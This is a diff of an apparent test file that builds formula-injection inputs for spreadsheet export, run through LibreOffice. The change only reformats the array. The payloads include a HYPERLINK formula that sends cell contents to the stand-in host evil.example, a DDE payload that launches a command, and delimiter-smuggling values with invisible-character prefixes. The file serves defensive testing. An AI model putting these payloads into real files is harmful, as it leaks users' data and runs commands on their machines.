@@ -16,9 +16,26 @@ const PROGRAM = 'soffice';
 
 /** 20 payloads behind 10 beginnings. */
 const PAYLOADS = [
-  ...['=1+1', '+1+1', '-1+1', '@SUM(1;1)', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)'],
-  ...['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|'/C calc'!A0", '=6*7";=6*7;"', '"=6*7"', '";=6*7;"', "'=6*7"],
-  ...['a;=6*7', 'a,=6*7', 'a\t=6*7', 'a|=6*7', 'line\n=6*7', 'line\r\n=6*7;=6*7'],
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1;1)',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  '=HYPERLINK("http://evil.example/?"&A1,"x")',
+  "=cmd|'/C calc'!A0",
+  '=6*7";=6*7;"',
+  '"=6*7"',
+  '";=6*7;"',
+  "'=6*7",
+  'a;=6*7',
+  'a,=6*7',
+  'a\t=6*7',
+  'a|=6*7',
+  'line\n=6*7',
+  'line\r\n=6*7;=6*7',
 ];
 const BEGINNINGS = ['', ' ', '\u00a0', '\u3000', '\t', '\n', '\r\n', '\u200b', '\ufeff', 'Acme; '];
 const HOSTILE = BEGINNINGS.flatMap((beginning) => PAYLOADS.map((payload) => beginning + payload));
